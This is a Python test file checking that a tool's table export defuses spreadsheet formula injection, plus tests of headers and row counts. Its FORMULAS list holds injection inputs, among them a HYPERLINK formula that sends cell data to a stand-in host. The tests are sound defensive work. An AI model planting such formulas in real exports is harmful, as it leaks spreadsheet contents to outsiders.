"""Tables as other programs and spreadsheets read them."""

import csv
import io
from pathlib import Path

import pytest

from qtui.exchange import export
from qtui.exchange.export import Rows, encode
from tests.cli.conftest import Invoke, invoke, store_path
from tests.filled_store import fill

__all__ = ["invoke", "store_path"]

FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A1)',
    "+1",
    "-1 は負の数です",
    "- 犬\n- 猫",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "－1",
)
PLAIN = ("猫", "", "1+1=2", "' 引用", "'=1", "''", " =1", "「=」")


def cells(content: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(content.decode(), newline=""))][1:]


def column(texts: tuple[str, ...]) -> Rows:
    return Rows(("text",), tuple((text,) for text in texts))


def test_no_cell_of_csv_is_a_formula_to_a_spreadsheet() -> None:
    assert cells(encode(column(FORMULAS), "csv")) == [f"'{text}" for text in FORMULAS]


def test_one_leading_apostrophe_less_gives_every_text_back() -> None:
    texts = FORMULAS + PLAIN
    assert tuple(cell.removeprefix("'") for cell in cells(encode(column(texts), "csv"))) == texts


def test_exact_csv_and_the_other_forms_of_programs_hold_texts_as_they_are() -> None:
    texts = FORMULAS + PLAIN
    assert tuple(cells(encode(column(texts), "csv", exact=True))) == texts
    assert b'{"text": "=1"}\n' in encode(column(("=1",)), "jsonl")


def test_negative_numbers_stay_numbers() -> None:
    assert cells(encode(Rows(("difference",), ((-0.25,), (-3,))), "csv")) == ["-0.25", "-3"]


def test_table_of_nothing_has_its_header(store_path: Path, invoke: Invoke) -> None:
    header = invoke("export", "divergence").stdout
    assert header == ",".join(export.DIVERGENCE_COLUMNS) + "\n"


def test_scores_of_a_model_without_candidates_have_their_header(tmp_path: Path) -> None:
    path = tmp_path / "s.sqlite"
    fill(path, names=("FP16",))
    table = export.score_rows(path, (1,))
    assert (table.columns, table.rows) == (export.SCORE_COLUMNS, ())


def test_scores_have_the_columns_that_they_have_without_a_row(store_path: Path) -> None:
    table = export.score_rows(store_path, (1,))
    assert table.columns == export.SCORE_COLUMNS
    assert len(table.rows) == 2


def test_table_of_nothing_from_several_runs_begins_with_the_experiment(store_path: Path, invoke: Invoke) -> None:
    fill(store_path, "second")
    assert invoke("export", "divergence").stdout.startswith("experiment,model,baseline,")


@pytest.mark.parametrize(("subject", "rows"), [("scores", "2 rows"), ("divergence", "0 rows")])
def test_rows_are_counted_in_words(store_path: Path, invoke: Invoke, tmp_path: Path, subject: str, rows: str) -> None:
    assert invoke("export", subject, "-o", str(tmp_path / "x.csv")).stderr.endswith(f": {rows}\n")


def test_one_row_is_one_row(tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    fill(tmp_path / "s.sqlite", grade_of={"FP16": [3]})
    monkeypatch.setenv("QTUI_STORE", str(tmp_path / "s.sqlite"))
    assert invoke("export", "grades", "-o", str(tmp_path / "x.csv")).stderr.endswith(": 1 row\n")
